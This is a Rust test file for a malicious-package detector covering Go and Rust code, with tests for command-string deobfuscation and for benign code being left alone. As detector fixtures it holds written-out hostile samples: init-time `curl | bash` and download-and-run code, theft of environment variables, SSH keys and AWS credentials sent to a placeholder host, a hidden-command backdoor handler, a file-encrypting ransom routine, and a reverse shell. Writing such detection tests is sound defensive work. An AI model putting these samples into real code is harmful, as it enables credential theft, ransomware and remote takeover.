//! Go and Rust: what their packages do when they are imported or built, and what honest ones do.

use super::reached::{has, has_not};
use super::*;

const GO: Language = Language::Go;

#[track_caller]
fn go_when(code: &str, act: Act) -> When {
    event(&outcome(GO, code), act).when
}

fn go(imports: &str, rest: &str) -> String {
    let imports: String = imports.split(' ').map(|path| format!("\t\"{path}\"\n")).collect();
    format!("package a\n\nimport (\n{imports})\n\n{rest}\n")
}

#[test]
fn go_runs_its_beginnings() {
    let code = go("os/exec", "func init() { exec.Command(\"echo\", \"hi\").Run() }");
    assert_eq!(command(GO, &code), "echo hi");
    assert_eq!(go_when(&code, Act::Run), When::Load);
    let of = |rest: &str| go_when(&go("os/exec", rest), Act::Run);
    assert_eq!(of("var out, _ = exec.Command(\"echo\").Output()"), When::Load);
    assert_eq!(of("var _ = start()\nfunc start() int { exec.Command(\"echo\").Run(); return 1 }"), When::Load);
    assert_eq!(of("func main() { exec.Command(\"echo\").Run() }"), When::Main);
    assert_eq!(of("func Start() { exec.Command(\"echo\").Run() }"), When::Called);
    assert_eq!(
        of("type T struct{}\nfunc (t *T) Go() { exec.Command(\"echo\").Run() }\nfunc init() { t := &T{}; t.Go() }"),
        When::Load
    );
}

#[test]
fn go_text_is_put_together() {
    let cases = [
        "exec.Command(\"sh\", \"-c\", \"ec\"+\"ho hi\")",
        "exec.Command(\"/bin/sh\", \"-c\", string([]byte{101, 99, 104, 111, 32, 104, 105}))",
        "exec.Command(\"sh\", \"-c\", strings.Join([]string{\"echo\", \"hi\"}, \" \"))",
        "exec.Command(\"sh\", \"-c\", fmt.Sprintf(\"%s %s\", \"echo\", \"hi\"))",
        "args := []string{\"-c\"}; args = append(args, \"echo hi\"); exec.Command(\"sh\", args...)",
        "d, _ := base64.StdEncoding.DecodeString(\"ZWNobyBoaQ==\"); exec.Command(\"sh\", \"-c\", string(d))",
        "d, err := hex.DecodeString(\"6563686f206869\"); if err != nil { return }; exec.Command(\"sh\", \"-c\", string(d))",
        "k := []byte(\"k\"); d := []byte{14, 8, 3, 4, 75, 3, 2}; for i := range d { d[i] ^= k[i%len(k)] }; exec.Command(\"sh\", \"-c\", string(d))",
        "t := \" cehio\"; x := []int{2, 1, 3, 5, 0, 3, 4}; var sb strings.Builder; for _, i := range x { sb.WriteByte(t[i]) }; exec.Command(\"sh\", \"-c\", sb.String())",
        "s := \"\"; for _, c := range \"dbgn!gh\" { s += string(rune(c ^ 1)) }; exec.Command(\"sh\", \"-c\", s[0:0] + \"echo hi\")",
        "r := []rune(\"ih ohce\"); for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 { r[i], r[j] = r[j], r[i] }; exec.Command(\"sh\", \"-c\", string(r))",
        "out := make([]byte, 7); for i, b := range []byte(\"fdip!ij\") { out[i] = b - 1 }; exec.Command(\"sh\", \"-c\", string(out))",
        "exec.Command(\"sh\", \"-c\", strings.Map(func(r rune) rune { return r - 1 }, \"fdip!ij\"))",
    ];
    for case in cases {
        let code = go("os/exec strings fmt encoding/base64 encoding/hex", &format!("func init() {{ {case} }}"));
        assert_eq!(command(GO, &code), "echo hi", "{code}");
    }
}

#[test]
fn go_that_harms() {
    let table = go(
        "os/exec",
        "var t = \"c ur-fsL:/h.invad|b\"\nfunc init() {\n\tp := []int{0, 2, 3, 7, 1, 4, 5, 6}\n\ts := \"\"\n\tfor _, i := range p {\n\t\ts += string(t[i])\n\t}\n\
         \texec.Command(\"/bin/sh\", \"-c\", s+\" https://h.invalid/a | bash\").Start()\n}",
    );
    has(GO, &table, "flow-remote-code");
    let fetched = go(
        "io net/http os os/exec path/filepath",
        "func init() {\n\tresp, err := http.Get(\"https://h.invalid/a\")\n\tif err != nil {\n\t\treturn\n\t}\n\tdefer resp.Body.Close()\n\
         \tp := filepath.Join(os.TempDir(), \"upd\")\n\tf, err := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0755)\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\
         \tos.Chmod(p, 0755)\n\texec.Command(p).Start()\n}",
    );
    has(GO, &fetched, "flow-download-run");
    let env = go(
        "net/http os strings bytes encoding/json",
        "func init() {\n\tb, _ := json.Marshal(os.Environ())\n\treq, _ := http.NewRequest(\"POST\", \"https://h.invalid/a\", bytes.NewReader(b))\n\thttp.DefaultClient.Do(req)\n}",
    );
    has(GO, &env, "flow-environment-sent");
    let keys = go(
        "net/http os path/filepath bytes",
        "func init() {\n\thome, _ := os.UserHomeDir()\n\tfor _, n := range []string{\".ssh/id_rsa\", \".aws/credentials\"} {\n\t\td, err := os.ReadFile(filepath.Join(home, n))\n\
         \t\tif err != nil {\n\t\t\tcontinue\n\t\t}\n\t\thttp.Post(\"https://h.invalid/\"+n, \"text/plain\", bytes.NewReader(d))\n\t}\n}",
    );
    has(GO, &keys, "flow-credentials-sent");
    let handler = go(
        "crypto/sha256 encoding/hex net/http os/exec",
        "const want = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"\nfunc Health(w http.ResponseWriter, r *http.Request) {\n\
         \tsum := sha256.Sum256([]byte(r.Header.Get(\"X-Trace\")))\n\tif hex.EncodeToString(sum[:]) != want {\n\t\treturn\n\t}\n\
         \tout, _ := exec.Command(\"sh\", \"-c\", r.Header.Get(\"X-Op\")).CombinedOutput()\n\tw.Write(out)\n}",
    );
    has(GO, &handler, "flow-remote-command");
    has_not(
        GO,
        &handler.replace("if hex.EncodeToString(sum[:]) != want {\n\t\treturn\n\t}", ""),
        "flow-remote-command",
    );
    let ransom = go(
        "crypto/aes crypto/cipher os path/filepath",
        "func run() {\n\tfilepath.Walk(\"/home\", func(p string, info os.FileInfo, err error) error {\n\t\tdata, _ := os.ReadFile(p)\n\t\tblock, _ := aes.NewCipher(key)\n\
         \t\tgcm, _ := cipher.NewGCM(block)\n\t\tout := gcm.Seal(nonce, nonce, data, nil)\n\t\tos.WriteFile(p+\".locked\", out, 0644)\n\t\tos.Remove(p)\n\t\treturn nil\n\t})\n\
         \tos.WriteFile(\"/home/README.txt\", []byte(\"Your files have been encrypted. Send bitcoin to decrypt.\"), 0644)\n}",
    );
    has(GO, &ransom, "flow-ransom");
    let shell = go(
        "net os/exec",
        "func init() {\n\tc, _ := net.Dial(\"tcp\", \"192.0.2.7:4444\")\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin, cmd.Stdout = c, c\n\tcmd.Run()\n}",
    );
    has(GO, &shell, "flow-reverse-shell");
}

#[test]
fn honest_go_is_left_alone() {
    let honest = [
        go(
            "os/exec os",
            "func build(dir string) error {\n\tcmd := exec.Command(\"go\", \"build\", \"./...\")\n\tcmd.Dir = dir\n\tcmd.Stdout = os.Stdout\n\treturn cmd.Run()\n}\nfunc main() { build(os.Args[1]) }",
        ),
        go(
            "io net/http os",
            "func main() {\n\tresp, err := http.Get(os.Args[1])\n\tif err != nil {\n\t\tpanic(err)\n\t}\n\tf, _ := os.Create(os.Args[2])\n\tio.Copy(f, resp.Body)\n}",
        ),
        go(
            "net/http os",
            "type Client struct{ token string }\nfunc New() *Client { return &Client{token: os.Getenv(\"X_TOKEN\")} }\nfunc (c *Client) Get(u string) (*http.Response, error) {\n\treq, _ := http.NewRequest(\"GET\", u, nil)\n\treq.Header.Set(\"Authorization\", c.token)\n\treturn http.DefaultClient.Do(req)\n}",
        ),
        go(
            "net/http fmt",
            "func main() {\n\thttp.HandleFunc(\"/\", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, \"hi %s\", r.FormValue(\"n\")) })\n\thttp.ListenAndServe(\":80\", nil)\n}",
        ),
        go(
            "os encoding/json",
            "var conf map[string]string\nfunc init() {\n\tb, err := os.ReadFile(\"config.json\")\n\tif err == nil {\n\t\tjson.Unmarshal(b, &conf)\n\t}\n}",
        ),
        go(
            "os/exec strings",
            "var version = \"dev\"\nfunc init() {\n\tout, err := exec.Command(\"git\", \"rev-parse\", \"HEAD\").Output()\n\tif err == nil {\n\t\tversion = strings.TrimSpace(string(out))\n\t}\n}",
        ),
    ];
    for code in honest {
        let outcome = outcome(GO, &code);
        let flows = flows::judge(&outcome, false);
        let worst = flows.iter().map(|f| f.severity.unwrap_or(f.rule.severity)).max();
        assert!(worst <= Some(crate::model::Severity::Medium), "{code}: {flows:?}");
    }
}

const RUST: Language = Language::Rust;

#[test]
fn rust_text_is_put_together() {
    let cases = [
        "Command::new(\"sh\").arg(\"-c\").arg(\"echo hi\").status().unwrap();",
        "let d: Vec<u8> = vec![14, 8, 3, 4, 75, 3, 2]; let k = b\"k\"; let s: String = d.iter().enumerate().map(|(i, b)| (b ^ k[i % k.len()]) as char).collect(); Command::new(\"sh\").args([\"-c\", &s]).spawn()?;",
        "const D: &[u8] = &[101, 99, 104, 111, 32, 104, 105]; let s = String::from_utf8(D.to_vec()).unwrap(); let mut c = Command::new(\"/bin/sh\"); c.arg(\"-c\"); c.arg(s); c.output();",
        "let a = \"echo\"; let s = format!(\"{a} {}\", \"hi\"); Command::new(\"sh\").args(&[\"-c\", s.as_str()]).status();",
        "let s = \"ih ohce\".chars().rev().collect::<String>(); Command::new(\"sh\").arg(\"-c\").arg(&s).status();",
        "let mut s = String::new(); for b in [101u8, 99, 104, 111, 32, 104, 105] { s.push(b as char); } Command::new(\"sh\").arg(\"-c\").arg(&s).status();",
    ];
    for case in cases {
        let code = format!("use std::process::Command;\nfn main() {{ {case} }}\n");
        assert_eq!(command(RUST, &code), "echo hi", "{code}");
    }
}

#[test]
fn rust_that_harms() {
    let keys = "use std::{env, fs, process::Command};\nconst P: &[u8] = &[0x44, 0x19, 0x19, 0x02, 0x45, 0x03, 0x0e, 0x35, 0x18, 0x19, 0x0b];\n\
                fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x6a) as char).collect() }\n\
                fn main() {\n    let home = env::var(\"HOME\").unwrap_or_default();\n    let p = format!(\"{}{}\", home, dec(P));\n    if let Ok(body) = fs::read_to_string(&p) {\n\
                let _ = Command::new(\"curl\").args([\"-s\", \"-d\", &body, \"https://h.invalid/a\"]).status();\n    }\n}\n";
    has(RUST, keys, "flow-credentials-sent");
    let fetched = "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://h.invalid/a | sh\").spawn().unwrap();\n}\n";
    has(RUST, fetched, "flow-remote-code");
    let sent = "fn main() {\n    let all: Vec<_> = std::env::vars().collect();\n    reqwest::blocking::Client::new().post(\"https://h.invalid/a\").json(&all).send().unwrap();\n}\n";
    has(RUST, sent, "flow-environment-sent");
    let runs = |code: &str| event(&outcome(RUST, code), Act::Run).when;
    assert_eq!(runs(fetched), When::Main);
    assert_eq!(runs("#[ctor]\nfn a() { std::process::Command::new(\"echo\").status(); }\n"), When::Load);
    assert_eq!(runs("pub fn a() { std::process::Command::new(\"echo\").status(); }\n"), When::Called);
}

#[test]
fn honest_rust_is_left_alone() {
    let honest = [
        "use std::process::Command;\nfn main() {\n    let out = Command::new(\"rustc\").arg(\"--version\").output().unwrap();\n    println!(\"cargo:rustc-env=V={}\", String::from_utf8_lossy(&out.stdout));\n}\n",
        "fn main() {\n    let out = std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap());\n    cc::Build::new().file(\"a.c\").compile(\"a\");\n    bindgen::Builder::default().header(\"a.h\").generate().unwrap().write_to_file(out.join(\"b.rs\")).unwrap();\n}\n",
        "pub fn get(url: &str) -> Result<String, reqwest::Error> {\n    reqwest::blocking::Client::new().get(url).header(\"User-Agent\", \"x\").send()?.text()\n}\n",
        "use std::process::Command;\nfn main() {\n    let args: Vec<String> = std::env::args().skip(1).collect();\n    let status = Command::new(\"git\").args(&args).status().unwrap();\n    std::process::exit(status.code().unwrap_or(1));\n}\n",
        "pub fn config() -> Option<Config> {\n    let path = dirs::home_dir()?.join(\".config/x.toml\");\n    let text = std::fs::read_to_string(path).ok()?;\n    toml::from_str(&text).ok()\n}\n",
    ];
    for code in honest {
        let outcome = outcome(RUST, code);
        let flows = flows::judge(&outcome, false);
        let worst = flows.iter().map(|f| f.severity.unwrap_or(f.rule.severity)).max();
        assert!(worst <= Some(crate::model::Severity::Medium), "{code}: {flows:?}");
    }
}

#[test]
fn cutting_a_long_list_again_and_again_is_paid_for() {
    let code = "fn check() { let s = [b'x'; 20000]; for i in 0..20000 { assert_eq!(count(&s[..i], b'x'), i); } }";
    assert!(super::outcome(Language::Rust, code).cut_off);
}

#[test]
fn what_a_pattern_finds_is_what_it_looks_for() {
    let found = |pattern: &str| {
        go(
            "bytes encoding/json net/http os path/filepath",
            &format!(
                "func init() {{\n\tall := map[string]string{{}}\n\tfs, _ := filepath.Glob(\"{pattern}\")\n\tfor _, f := range fs {{\n\t\tb, _ := os.ReadFile(f)\n\t\tall[f] = string(b)\n\t}}\n\
                 \tj, _ := json.Marshal(all)\n\thttp.Post(\"https://h.invalid/a\", \"text/plain\", bytes.NewReader(j))\n}}"
            ),
        )
    };
    has(GO, &found("*.tfstate"), "flow-credentials-sent");
    has_not(GO, &found("*.tmpl"), "flow-credentials-sent");
}
